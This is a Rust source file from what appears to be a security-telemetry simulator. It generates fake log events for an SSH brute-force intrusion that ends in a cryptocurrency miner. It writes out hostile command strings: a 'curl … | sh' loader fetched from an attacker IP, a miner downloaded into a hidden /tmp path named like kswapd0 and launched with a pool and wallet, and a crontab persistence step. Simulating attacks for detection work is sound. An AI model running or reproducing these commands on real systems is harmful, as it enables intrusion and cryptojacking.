//! SSH brute force to a coin miner on Linux: many failed logons from one external address, a
//! success, a shell that runs `curl … | sh`, the dropped miner talking to a pool, and a crontab
//! entry that restarts it.

use super::{FileExtra, after, connect, logon};
use crate::catalog::Img;
use crate::catalog::names::BRUTE_USERS;
use crate::catalog::net::{ATTACKER_NETS, POOLS};
use crate::engine::acts::{Logon, ephemeral, public_ip};
use crate::engine::procs::{Spawn, spawn};
use crate::engine::{Out, World};
use crate::fleet::Os;
use crate::rng;
use std::io;

const NAME: &str = "ssh-miner";
const MINER: &str = "/tmp/.ICE-unix/.x/kswapd0";
const POOL_SECS: f64 = 300.0;

pub fn step(
    w: &mut World<'_>,
    out: &mut Out<'_>,
    run: usize,
    t: i64,
) -> io::Result<Option<(i64, usize)>> {
    let dev = w.runs[run].dev;
    let step = w.runs[run].step;
    w.runs[run].step += 1;
    // text: [pool host:port, attacker IP, pool IP, victim account name]
    let sshd = w.devs[dev].st.sys.sshd;
    match step {
        0 => {
            let r = &mut w.runs[run].rng;
            let attempts = r.range(40, 120) as u32;
            let (pool, port) = *r.pick(POOLS);
            let mut pool_ip = String::new();
            public_ip(&mut pool_ip, r, ATTACKER_NETS);
            let ctx = &w.devs[dev].ctx;
            // The weakest account: the distribution's default user.
            let acct = if ctx.accounts.len() > 1 { 1 } else { 0 };
            let name = ctx.acct(acct).name.clone();
            let run_ = &mut w.runs[run];
            run_.text[0] = format!("{pool}:{port}");
            run_.text[2] = pool_ip;
            run_.text[3] = name;
            run_.left = attempts;
            run_.acct = acct;
            brute(w, out, run, dev, t, sshd)
        }
        1 => brute(w, out, run, dev, t, sshd),
        2 => {
            let ip = w.runs[run].text[1].clone();
            let name = w.runs[run].text[3].clone();
            let d = &mut w.devs[dev];
            let port = ephemeral(Os::Linux, &mut d.st.rng);
            let a = d.ctx.acct(w.runs[run].acct);
            let (domain, sid) = (a.domain.clone(), a.sid.clone());
            let l = Logon {
                action: "LogonSuccess",
                logon_type: "Network",
                domain: &domain,
                name: &name,
                sid: &sid,
                protocol: None,
                failure: None,
                admin: None,
                logon_id: Some(0),
                remote_name: None,
                remote_ip: Some(&ip),
                remote_port: Some(port),
            };
            logon(w, out, run, dev, t, sshd, &l, "ssh-login-success")?;
            Ok(after(t, 3.0, dev))
        }
        3 => {
            // The bot runs its loader over the SSH exec channel: sshd starts `bash -c "curl | sh"`.
            let (acct, ip) = (w.runs[run].acct, w.runs[run].text[1].clone());
            let cmd = format!(r#"bash -c "curl -fsSL http://{ip}/ldr.sh | sh""#);
            let bash = spawn(
                w,
                out,
                dev,
                t,
                sshd,
                Spawn {
                    acct: Some(acct),
                    ..Spawn::tool(Img::Bash, &cmd, NAME, "curl-pipe-sh")
                },
            )?;
            w.runs[run].procs[0] = bash;
            Ok(after(t, 0.05, dev))
        }
        4 => {
            let cmd = format!("curl -fsSL http://{}/ldr.sh", w.runs[run].text[1]);
            child(
                w,
                out,
                run,
                dev,
                t,
                0,
                Img::Curl,
                &cmd,
                "curl-pipe-sh",
                Some(1),
            )?;
            child(
                w,
                out,
                run,
                dev,
                t,
                0,
                Img::Dash,
                "sh",
                "curl-pipe-sh",
                Some(2),
            )?;
            Ok(after(t, 0.4, dev))
        }
        5 => {
            child(
                w,
                out,
                run,
                dev,
                t,
                2,
                Img::Uname,
                "uname -a",
                "recon",
                None,
            )?;
            Ok(after(t, 0.3, dev))
        }
        6 => {
            child(w, out, run, dev, t, 2, Img::Nproc, "nproc", "recon", None)?;
            Ok(after(t, 0.5, dev))
        }
        7 => {
            let (curl, ip) = (w.runs[run].procs[1], w.runs[run].text[1].clone());
            let url = format!("http://{ip}/ldr.sh");
            connect(
                w,
                out,
                run,
                dev,
                t,
                curl,
                &ip,
                80,
                Some(&url),
                true,
                "payload-download",
            )?;
            Ok(after(t, 2.0, dev))
        }
        8 => {
            let cmd = format!(
                "curl -fsSL -o {MINER} http://{}/kswapd0",
                w.runs[run].text[1]
            );
            child(
                w,
                out,
                run,
                dev,
                t,
                2,
                Img::Curl,
                &cmd,
                "miner-download",
                Some(3),
            )?;
            Ok(after(t, 2.5, dev))
        }
        9 => {
            let curl = w.runs[run].procs[3];
            let miner = crate::catalog::info(Img::Miner);
            let key = rng::hash_str(0x0B17, &miner.sha1);
            super::file(
                w,
                out,
                run,
                dev,
                t,
                curl,
                "FileCreated",
                MINER,
                key,
                FileExtra {
                    size: miner.image.size,
                    ..FileExtra::default()
                },
                "miner-dropped",
            )?;
            Ok(after(t, 0.8, dev))
        }
        10 => {
            child(
                w,
                out,
                run,
                dev,
                t,
                2,
                Img::Chmod,
                &format!("chmod +x {MINER}"),
                "make-executable",
                None,
            )?;
            Ok(after(t, 0.6, dev))
        }
        11 => {
            let wallet = format!("4{}", super::base58(&mut w.runs[run].rng, 94));
            let cmd = format!(
                "{MINER} -o {} -u {wallet} -p x --donate-level 1 -B",
                w.runs[run].text[0]
            );
            child(
                w,
                out,
                run,
                dev,
                t,
                2,
                Img::Miner,
                &cmd,
                "miner-started",
                Some(4),
            )?;
            Ok(after(t, 4.0, dev))
        }
        12 => {
            child(
                w,
                out,
                run,
                dev,
                t,
                2,
                Img::Crontab,
                "crontab /tmp/.ICE-unix/.x/.c",
                "cron-persistence",
                Some(5),
            )?;
            Ok(after(t, 0.3, dev))
        }
        13 => {
            let crontab = w.runs[run].procs[5];
            let path = format!("/var/spool/cron/crontabs/{}", w.runs[run].text[3]);
            let key = rng::hash_str(w.seed, &path);
            super::file(
                w,
                out,
                run,
                dev,
                t,
                crontab,
                "FileModified",
                &path,
                key,
                FileExtra {
                    size: 1_183,
                    ..FileExtra::default()
                },
                "cron-persistence",
            )?;
            Ok(after(t, 5.0, dev))
        }
        _ => {
            if t >= w.runs[run].until {
                return Ok(None);
            }
            w.runs[run].step = 14;
            let miner = w.runs[run].procs[4];
            let (pool, ip) = (w.runs[run].text[0].clone(), w.runs[run].text[2].clone());
            let (host, port) = pool
                .split_once(':')
                .map_or((pool.as_str(), 3333), |(h, p)| {
                    (h, p.parse().unwrap_or(3333))
                });
            connect(
                w,
                out,
                run,
                dev,
                t,
                miner,
                &ip,
                port,
                Some(host),
                true,
                "mining-pool-connection",
            )?;
            let gap = w.runs[run].rng.jitter(POOL_SECS, 0.3);
            Ok(after(t, gap, dev))
        }
    }
}

/// One failed password guess; moves on to the successful logon when the guesses run out.
fn brute(
    w: &mut World<'_>,
    out: &mut Out<'_>,
    run: usize,
    dev: usize,
    t: i64,
    sshd: Option<u32>,
) -> io::Result<Option<(i64, usize)>> {
    let left = w.runs[run].left;
    if left == 0 {
        w.runs[run].step = 2;
        return Ok(after(t, 2.0, dev));
    }
    w.runs[run].left -= 1;
    w.runs[run].step = 1;
    let user = BRUTE_USERS[(left as usize) % BRUTE_USERS.len()];
    let ip = w.runs[run].text[1].clone();
    let d = &mut w.devs[dev];
    let port = ephemeral(Os::Linux, &mut d.st.rng);
    let host = d.ctx.host.clone();
    let l = Logon {
        action: "LogonFailed",
        logon_type: "Network",
        domain: &host,
        name: user,
        sid: "",
        protocol: None,
        failure: Some("InvalidUserNameOrPassword"),
        admin: None,
        logon_id: None,
        remote_name: None,
        remote_ip: Some(&ip),
        remote_port: Some(port),
    };
    logon(w, out, run, dev, t, sshd, &l, "ssh-brute-force")?;
    let gap = 0.8 + 2.2 * w.runs[run].rng.unit();
    Ok(after(t, gap, dev))
}

/// Starts a child of the story's process `parent` (index into `procs`), optionally keeping it.
#[allow(clippy::too_many_arguments)]
fn child(
    w: &mut World<'_>,
    out: &mut Out<'_>,
    run: usize,
    dev: usize,
    t: i64,
    parent: usize,
    img: Img,
    cmd: &str,
    step: &str,
    keep: Option<usize>,
) -> io::Result<()> {
    let (p, acct) = (w.runs[run].procs[parent], w.runs[run].acct);
    let slot = spawn(
        w,
        out,
        dev,
        t,
        Some(p),
        Spawn {
            acct: Some(acct),
            ..Spawn::tool(img, cmd, NAME, step)
        },
    )?;
    if let Some(k) = keep {
        w.runs[run].procs[k] = slot;
    }
    Ok(())
}
